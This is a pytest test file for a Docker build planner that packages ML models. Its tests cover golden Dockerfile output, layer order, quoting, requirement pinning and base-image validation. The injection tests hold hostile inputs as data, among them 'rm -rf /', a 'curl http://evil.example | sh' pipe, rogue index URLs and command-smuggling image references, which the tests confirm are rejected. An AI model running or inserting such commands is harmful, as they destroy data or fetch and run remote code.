"""`mlship build`: the plan (golden Dockerfile, layer order, quoting, requirements and version skew, base image).
The build context, the engine and real builds: test_build_images.py.
"""

from __future__ import annotations

import difflib
import hashlib
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest
import sklearn

import build_helpers
from build_helpers import HOSTILE_ARTIFACT, SAVED, edit_contract, hostile_project, set_requirements
from conftest import TEST_BASE_IMAGE
from mlship.contract_io import load_project
from mlship.errors import BuildError
from mlship.image import context
from mlship.image.context import build_pins, plan_build, write_context

wheel_cache = build_helpers.wheel_cache


GOLDEN = Path(__file__).parent / "golden"


# --- the plan: golden Dockerfile, layer order, quoting --------------------------------------------
GOLDEN_CONTRACT = """\
name: iris
runtime: sklearn
artifact: model/iris.joblib
task: classification
input:
  features: {sepal_length: float, sepal_width: float, petal_length: float, petal_width: float}
output:
  labels: [setosa, versicolor, virginica]
dependencies:
  python: "3.11"
  requirements: [scikit-learn==1.5.2, pandas==2.2.3]
docs: MODEL.md
examples:
  - input: {sepal_length: 5.1, sepal_width: 3.5, petal_length: 1.4, petal_width: 0.2}
    output: {label: setosa}
"""


@pytest.fixture
def fixed_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The iris contract with fixed bytes everywhere, so its plan is the same on every machine."""
    monkeypatch.setattr(context, "__version__", "0.0.0+golden")
    monkeypatch.setattr(context, "git_commit", lambda _path: None)
    monkeypatch.delenv("MLSHIP_BASE_IMAGE", raising=False)
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "iris.joblib").write_bytes(b"golden iris model\n")
    (tmp_path / "MODEL.md").write_text("# iris\n")
    (tmp_path / "mlship.yaml").write_text(GOLDEN_CONTRACT)
    return tmp_path


def test_dockerfile_matches_golden(fixed_project: Path) -> None:
    """Regenerate with MLSHIP_UPDATE_GOLDEN=1 after an intended template change (and review the diff)."""
    plan = plan_build(load_project(fixed_project), pins={})
    golden = GOLDEN / "iris.Dockerfile"
    if os.environ.get("MLSHIP_UPDATE_GOLDEN") == "1":
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(plan.dockerfile)
    assert golden.is_file(), f"{golden} is missing: run with MLSHIP_UPDATE_GOLDEN=1 to write it"
    expected = golden.read_text().splitlines()
    got = plan.dockerfile.splitlines()
    diff = "\n".join(difflib.unified_diff(expected, got, "golden/iris.Dockerfile", "plan", lineterm=""))
    assert got == expected, f"Dockerfile changed (MLSHIP_UPDATE_GOLDEN=1 to accept):\n{diff}"
    assert plan.base_image == "python:3.11-slim"
    assert plan.tag == "iris:" + hashlib.sha256(b"golden iris model\n").hexdigest()[:12]


def _instructions(dockerfile: str) -> list[str]:
    """Instructions with continuation lines joined, comments and blank lines dropped."""
    text = re.sub(r"\\\n", " ", dockerfile)
    return [line.strip() for line in text.splitlines() if line.strip() and not line.startswith("#")]


def test_layer_order_base_deps_mlship_model_contract_labels(fixed_project: Path) -> None:
    lines = _instructions(plan_build(load_project(fixed_project), pins={}).dockerfile)

    def at(predicate: Callable[[str], bool]) -> int:
        found = [i for i, line in enumerate(lines) if predicate(line)]
        assert len(found) == 1, (found, lines)
        return found[0]

    deps_from = at(lambda s: s.startswith("FROM ") and s.endswith(" AS deps"))
    lock = at(lambda s: s.startswith("COPY requirements.lock"))
    pip = at(lambda s: "--require-hashes" in s)
    mlship_copy = at(lambda s: s.startswith("COPY mlship/"))
    mlship_install = at(lambda s: "--no-deps /build/mlship/" in s)
    final_from = at(lambda s: s.startswith("FROM ") and " AS " not in s)
    venv = at(lambda s: s.startswith("COPY --from=deps"))
    model = at(lambda s: s.startswith("COPY model/"))
    contract = at(lambda s: s.startswith("COPY contract/"))
    user = at(lambda s: s.startswith("USER "))
    assert deps_from < lock < pip < mlship_copy < mlship_install < final_from < venv < model < contract
    assert venv < user < model  # the run settings before the model: a model-only rebuild keeps them cached
    labels = [i for i, line in enumerate(lines) if line.startswith("LABEL ") and i > final_from]
    assert labels == list(range(len(lines) - len(labels), len(lines))), "labels must be the last instructions"
    # the deps stage ends with its label (after every RUN, so no build container carries it): see keep_stage_cache
    assert lines[final_from - 1] == 'LABEL dev.mlship.stage="deps" dev.mlship.service="iris"'
    stage_labels = [line for line in lines if line.startswith("LABEL ") and "dev.mlship.stage" in line]
    assert stage_labels == [lines[final_from - 1]]
    assert lines[user].split()[1].split(":")[0] != "0"


def test_hostile_file_name_never_reaches_the_dockerfile(tmp_path: Path, iris_model: Path,
                                                        wheel_cache: Path) -> None:
    project = load_project(hostile_project(tmp_path / "p", iris_model))
    assert project.contract.artifact == HOSTILE_ARTIFACT
    plan = plan_build(project, base=TEST_BASE_IMAGE, pins={})
    assert "ir\"is" not in plan.dockerfile and "$(" not in plan.dockerfile
    copies = [line for line in _instructions(plan.dockerfile) if line.startswith("COPY ")]
    assert copies == ["COPY requirements.lock /build/requirements.lock", "COPY wheels/ /build/wheels/",
                      "COPY elfstrip.py /image/elfstrip.py",
                      "COPY mlship/ /build/mlship/", "COPY --from=deps /opt/venv /opt/venv",
                      "COPY model/ /app/", "COPY contract/ /app/"]
    ctx = write_context(plan, tmp_path / "ctx")
    copied = ctx / "model" / HOSTILE_ARTIFACT
    assert copied.read_bytes() == iris_model.read_bytes()
    assert copied.stat().st_mode & 0o444 == 0o444, "the image's non-root user must be able to read the model"
    assert (ctx / "contract" / "mlship.yaml").read_bytes() == project.contract_path.read_bytes()
    assert not (tmp_path / "x").exists() and not Path("x").exists()


@pytest.mark.parametrize("line", ["foo; rm -rf /", "x==1 && curl http://evil.example | sh",
                                  "numpy\n--index-url http://evil.example/simple", "--extra-index-url http://evil",
                                  "-e .", "numpy==2.0 --hash=sha256:00"])
def test_hostile_requirement_lines_are_rejected(iris_dir: Path, line: str) -> None:
    edit_contract(iris_dir, set_requirements(f"scikit-learn=={sklearn.__version__}", line))
    with pytest.raises(BuildError) as info:
        plan_build(load_project(iris_dir), pins={})
    assert f"dependencies.requirements: {line!r} is not a valid requirement" in info.value.message
    assert info.value.fix is not None and "pip requirement syntax" in info.value.fix


def test_url_requirement_is_rejected(iris_dir: Path) -> None:
    edit_contract(iris_dir, set_requirements("pkg @ https://example.com/pkg-1.0-py3-none-any.whl"))
    with pytest.raises(BuildError, match="is a URL requirement"):
        plan_build(load_project(iris_dir), pins={})


@pytest.mark.parametrize("outside", ["relative", "absolute"])
def test_files_outside_the_project_are_refused(iris_dir: Path, outside: str) -> None:
    root = iris_dir / "p"
    root.mkdir()
    for name in ("mlship.yaml", "MODEL.md"):
        (iris_dir / name).rename(root / name)
    model = iris_dir / "model" / "iris.joblib"
    artifact = "../model/iris.joblib" if outside == "relative" else str(model)
    edit_contract(root, lambda d: d.update(artifact=artifact))
    with pytest.raises(BuildError, match="is outside the project folder") as info:
        plan_build(load_project(root), pins={})
    assert info.value.fix is not None and "relative path" in info.value.fix


def test_other_contract_file_name_is_mlship_yaml_in_the_image(iris_dir: Path) -> None:
    (iris_dir / "mlship.yaml").rename(iris_dir / "prod.yaml")
    plan = plan_build(load_project(iris_dir / "prod.yaml"), pins={})
    contract = [(src.name, ctx) for src, ctx in plan.files if ctx.startswith("contract/")]
    assert ("prod.yaml", "contract/mlship.yaml") in contract
    assert '"/app/mlship.yaml"]' in plan.dockerfile


@pytest.mark.parametrize("value", ['a"b', "$HOME", "back\\slash", "it's <b>&"])
def test_docker_string_escapes_what_the_builder_expands(value: str) -> None:
    quoted = context.docker_string(value)
    assert quoted.startswith('"') and quoted.endswith('"')
    inner = quoted[1:-1]
    assert re.sub(r"\\(.)", r"\1", inner) == value  # the builder's unescaping gives the value back
    assert not re.search(r'(?<!\\)(\\\\)*[$"]', inner), "unescaped $ or quote"
    with pytest.raises(BuildError, match="control characters"):
        context.docker_string("a\nRUN curl evil")


# --- requirements: version skew -------------------------------------------------------------------
def test_build_pins_read_the_saved_version(iris_dir: Path) -> None:
    assert build_pins(load_project(iris_dir)) == {"scikit-learn": SAVED}


def test_version_skew_names_both_versions_and_the_fix(iris_dir: Path) -> None:
    edit_contract(iris_dir, set_requirements("scikit-learn==1.0.0"))
    with pytest.raises(BuildError) as info:
        plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
    err = info.value
    assert f"saved with scikit-learn {SAVED}" in err.message and "scikit-learn==1.0.0" in err.message
    assert err.fix is not None and f"Require scikit-learn=={SAVED} in mlship.yaml" in err.fix
    assert err.why is not None and "pickle" in err.why


@pytest.mark.parametrize("spec", [">=1.0,<99", "~=1.0", "==1.*"])
def test_range_containing_the_saved_version_is_narrowed(iris_dir: Path, spec: str) -> None:
    edit_contract(iris_dir, set_requirements(f"scikit-learn{spec}", "pandas"))
    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
    assert plan.requirements[:2] == [f"scikit-learn=={SAVED}", "pandas"]
    assert any(f"pinned scikit-learn=={SAVED} (within your" in note for note in plan.notes), plan.notes


def test_absent_framework_is_added_and_server_packages_pinned(iris_dir: Path) -> None:
    edit_contract(iris_dir, set_requirements("pandas"))
    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
    assert f"scikit-learn=={SAVED}" in plan.requirements
    assert plan.notes == [f"pinned scikit-learn=={SAVED}, the version the artifact was saved with"]
    names = [context.requirement_name(r) for r in plan.requirements]
    assert len(names) == len(set(names))
    assert {"uvicorn", "orjson", "numpy", "pydantic"} <= set(names)
    assert all("==" in r for r in plan.requirements if context.requirement_name(r) != "pandas")


def test_exact_pin_is_kept_without_a_note(iris_dir: Path) -> None:
    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
    assert f"scikit-learn=={SAVED}" in plan.requirements and plan.notes == []


# --- base image resolution --------------------------------------------------------------------------
def test_base_image_precedence(iris_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MLSHIP_BASE_IMAGE", raising=False)
    assert context.base_image(load_project(iris_dir)) == "python:3.11-slim"
    edit_contract(iris_dir, lambda d: d["dependencies"].update(python="3.12"))
    assert context.base_image(load_project(iris_dir)) == "python:3.12-slim"
    edit_contract(iris_dir, lambda d: d.update(build={"base_image": "registry.example/team/py:3.12"}))
    project = load_project(iris_dir)
    assert context.base_image(project) == "registry.example/team/py:3.12"
    monkeypatch.setenv("MLSHIP_BASE_IMAGE", "localhost:5000/py@sha256:" + "a" * 64)
    assert context.base_image(project) == "localhost:5000/py@sha256:" + "a" * 64
    assert context.base_image(project, "python:3.11-bookworm") == "python:3.11-bookworm"
    assert plan_build(project, base="python:3.11-bookworm", pins={}).dockerfile.count(
        "FROM python:3.11-bookworm") == 2


@pytest.mark.parametrize("ref", ["Python:3.11", "python:3.11 AS evil", "python:3.11\n", "python:3.11\nRUN x",
                                 "-python", "python:3.11-", "python 3.11", "python:3.11;rm"])
def test_invalid_base_image_is_refused(iris_dir: Path, ref: str) -> None:
    with pytest.raises(BuildError, match="is not a valid image reference") as info:
        context.base_image(load_project(iris_dir), ref)
    assert info.value.fix is not None and "python:3.11-slim" in info.value.fix
